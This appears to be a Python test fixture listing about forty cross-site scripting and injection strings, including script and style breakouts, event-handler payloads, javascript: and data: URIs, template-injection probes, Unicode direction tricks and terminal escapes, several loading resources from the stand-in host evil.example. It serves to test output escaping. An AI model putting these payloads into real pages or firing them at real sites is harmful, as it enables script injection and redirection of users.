"""Strings that break into pages, scripts, styles and tables. Each tries to set `__pwned`, load something, or change
what is around it."""

from __future__ import annotations

PAYLOADS: list[str] = [
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=2</script>",
    "</script ><img src=x onerror=window.__pwned=3>",
    "</SCRIPT\n><svg onload=window.__pwned=4>",
    "<!--<script>window.__pwned=5",
    "--><script>window.__pwned=6</script><!--",
    "<![CDATA[<script>window.__pwned=7</script>]]>",
    "<img src=x onerror=window.__pwned=8>",
    '"><img src=x onerror="window.__pwned=9">',
    "' onmouseover='window.__pwned=10' autofocus onfocus='window.__pwned=10",
    "<svg/onload=window.__pwned=11>",
    "<svg><animate onbegin=window.__pwned=12 attributeName=x dur=1s>",
    "<svg><script href=data:,window.__pwned=13 />",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=14>",
    "<math href=javascript:window.__pwned=15>x</math>",
    "<iframe srcdoc='<script>parent.__pwned=16</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=17></iframe>",
    "<object data=data:text/html,<script>parent.__pwned=18</script>></object>",
    "<embed src=//evil.example/19.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/21'>",
    "<link rel=stylesheet href=//evil.example/22.css>",
    "<style>@import '//evil.example/23.css';*{display:none}</style>",
    "</style><script>window.__pwned=24</script>",
    "</title><script>window.__pwned=25</script>",
    "</textarea></noscript></template><details open ontoggle=window.__pwned=26>",
    "<form action=//evil.example/><button>27</button></form><input autofocus onfocus=window.__pwned=27>",
    "<a href=javascript:window.__pwned=28 ping=//evil.example/>click</a>",
    "javascript:window.__pwned=29",
    "data:text/html,<script>window.__pwned=30</script>",
    "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}",
    "${window.__pwned=32}`+window.__pwned=32+`",
    "\u2028window.__pwned=33\u2029//",
    "\\u003cscript\\u003ewindow.__pwned=34\\u003c/script\\u003e",
    "\ud800 half \udfff a pair <img src=x onerror=window.__pwned=35>",
    "\u202egnp.exe\u2066\u200f turned \u061c\ufeff",
    "x:expression(window.__pwned=37);background:url(//evil.example/37);}*{display:none",
    "__proto__",
    "constructor",
    "\x00\x08\x1b]8;;//evil.example\x07\x7f\x9b<b>&lt;&#60;&amp;\r\n\t",
]

LONG = "unbroken" * 60
"""A string that no line holds."""
